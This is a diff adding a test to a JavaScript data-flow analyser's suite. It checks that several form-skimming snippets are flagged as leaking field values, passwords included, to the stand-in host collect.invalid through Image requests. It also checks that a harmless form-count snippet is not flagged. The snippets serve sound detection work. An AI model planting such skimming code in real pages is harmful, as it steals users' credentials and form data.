@@ -79,4 +79,20 @@ describe('page-input', () => {
   for (const code of KEPT)
     it(`is taken from what is kept: ${code}`, () => assert.deepEqual([...new Set(flowsOf(code))], STORED));
   for (const code of HONEST) it(`is not taken: ${code}`, () => assert.deepEqual(flowsOf(code), []));
+
+  it('is in all forms of a page, however they are gone through', () => {
+    const send = (what: string) => `new Image().src = 'https://collect.invalid/?' + ${what};`;
+    const fields = `function fieldsOf(f) { const all = []; for (let i = 0; i < f.elements.length; i++) if (f.elements[i].name) all.push(f.elements[i].value); return all.join('&'); }`;
+    for (const code of [
+      send('document.forms[0].elements[0].value'),
+      `for (const form of document.forms) ${send('form.elements.password.value')}`,
+      `[].forEach.call(document.forms, (form) => { ${send('form.elements[0].value')} });`,
+      `document.querySelectorAll('form').forEach((form) => { ${send('form.elements[0].value')} });`,
+      `(function (window) { exports.end = function () { new window.Image().src = '//collect.invalid/?' + window.btoa(window.document.forms[0].elements[0].value); }; })(typeof window !== 'undefined' ? window : this);`,
+      `${fields} function each(list, use) { for (let i = 0; i < list.length; i++) use.call(list[i], i, list[i]); }
+       exports.end = function () { each(document.forms, function (i, form) { const said = fieldsOf(form); if (said.length > 2) ${send('said')} }); return this; };`,
+    ])
+      assert.deepEqual([...new Set(flowsOf(code))], ['keystrokes>network@collect.invalid'], code);
+    assert.deepEqual(flowsOf(send('document.forms.length')), []);
+  });
 });
